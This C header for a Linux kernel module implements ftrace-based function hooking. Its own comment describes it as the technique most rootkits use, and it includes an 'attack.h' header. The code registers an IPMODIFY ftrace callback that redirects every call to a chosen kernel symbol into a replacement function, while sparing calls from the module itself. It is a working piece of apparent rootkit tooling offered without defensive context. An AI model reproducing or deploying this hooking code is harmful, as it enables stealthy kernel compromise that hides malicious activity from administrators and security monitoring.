/* SPDX-License-Identifier: GPL-2.0-only */
/* The hook that most rootkits use: ftrace lets a function's callers go on in another one. */
#ifndef FTRACE_H
#define FTRACE_H

#include <linux/ftrace.h>

#include "attack.h"

/*
 * Who calls the hooked function from here gets the function itself. A replacement must not
 * end with a jump to it, for that looks like its own caller's call.
 */
static void *ftrace_replacement;

/*
 * The last parameter's type changed in 5.11; what it points to begins with the registers
 * on either side.
 */
static void notrace on_call(unsigned long ip, unsigned long parent_ip,
			    struct ftrace_ops *unused, struct pt_regs *regs)
{
	if (!within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)ftrace_replacement;
}

static struct ftrace_ops ftrace_ops = {
	.func = (ftrace_func_t)(void *)on_call,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
};

static inline int ftrace_attach(char *symbol, void *replacement)
{
	int r;

	ftrace_replacement = replacement;
	r = ftrace_set_filter(&ftrace_ops, symbol, strlen(symbol), 0);
	return r ? r : register_ftrace_function(&ftrace_ops);
}

static inline void ftrace_detach(void)
{
	unregister_ftrace_function(&ftrace_ops);
}

#endif
